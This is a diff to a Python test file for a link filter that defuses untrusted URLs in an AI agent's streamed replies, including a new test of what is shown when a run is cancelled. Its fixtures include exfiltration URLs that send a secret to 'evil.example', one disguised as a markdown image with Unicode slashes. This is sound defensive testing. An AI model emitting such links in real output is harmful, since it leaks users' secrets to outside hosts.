@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import asyncio
+import contextlib
 import re
 
 import pytest
@@ -9,7 +11,14 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from hermes.agent.run.links import LinkFilter, without_links
+from hermes.agent.run.speech import ReplyStream
+from hermes.control.workers import RunScope
+from hermes.domain.clock import SystemClock
+from hermes.domain.event import Live, TextDelta
+from hermes.domain.ports.agent import ModelRequest
+from hermes.testing.model import Say, ScriptedModel
 from tests.agent.coding_answers import ANSWERS
+from tests.agent.driving import EAGER
 
 SECRET = "5Jk8Yb37GqTz"
 EVIL = "https://evil.example"
@@ -46,6 +55,7 @@ FORMS = (
     f"看{EVIL}/?d={SECRET}。",
     f"https://[2001:4860:4860::8888]/?d={SECRET}",
     f"http://$HOST/{SECRET}",
+    f"![x](https:\u2215\u2215evil.example\u2215{SECRET}.png)",
 )
 _DEFUSED = re.compile(r"\[[:.]\](?:/|\w)")
 _CLICKABLE = re.compile(
@@ -216,3 +226,44 @@ def test_what_only_looks_like_code_or_like_the_end_of_a_link_hides_none(text: st
 )
 def test_of_a_command_only_the_address_is_changed(command: str, shown: str) -> None:
     assert without_links(f"Run: {command}", is_known, whole=True) == f"Run: {shown}"
+
+
+@pytest.mark.parametrize(
+    ("heard", "kept"),
+    [
+        ("See https://example.org/pages", "See https://example.org/pages"),
+        (f"See {EVIL}/?d={SECRET}", "See https[:]//evil[.]example/…"),
+    ],
+)
+async def test_a_word_that_was_held_back_is_kept_when_the_run_is_stopped(heard: str, kept: str) -> None:
+    pieces, said, never = 0, asyncio.Event(), asyncio.Event()
+
+    async def beat() -> None:
+        nonlocal pieces
+        pieces += 1
+        if pieces == len(heard):
+            said.set()
+            await never.wait()
+
+    shown: list[Live] = []
+    speech = ReplyStream(
+        provider=ScriptedModel([Say(text=f"{heard}!", pieces=len(heard) + 1, beat=beat)]),
+        clock=SystemClock(),
+        retries=0,
+        patience=EAGER,
+        links=lambda: LinkFilter(is_known),
+        late=shown.append,
+    )
+    scope = RunScope()
+
+    async def hear() -> None:
+        async for live in speech.hear(ModelRequest(model="m", system="", entries=(), tools=()), scope):
+            shown.append(live)
+
+    hearing = asyncio.create_task(hear())
+    await said.wait()
+    hearing.cancel()
+    with contextlib.suppress(asyncio.CancelledError):
+        await hearing
+    await scope.close()
+    assert "".join(live.text for live in shown if isinstance(live, TextDelta)) == kept
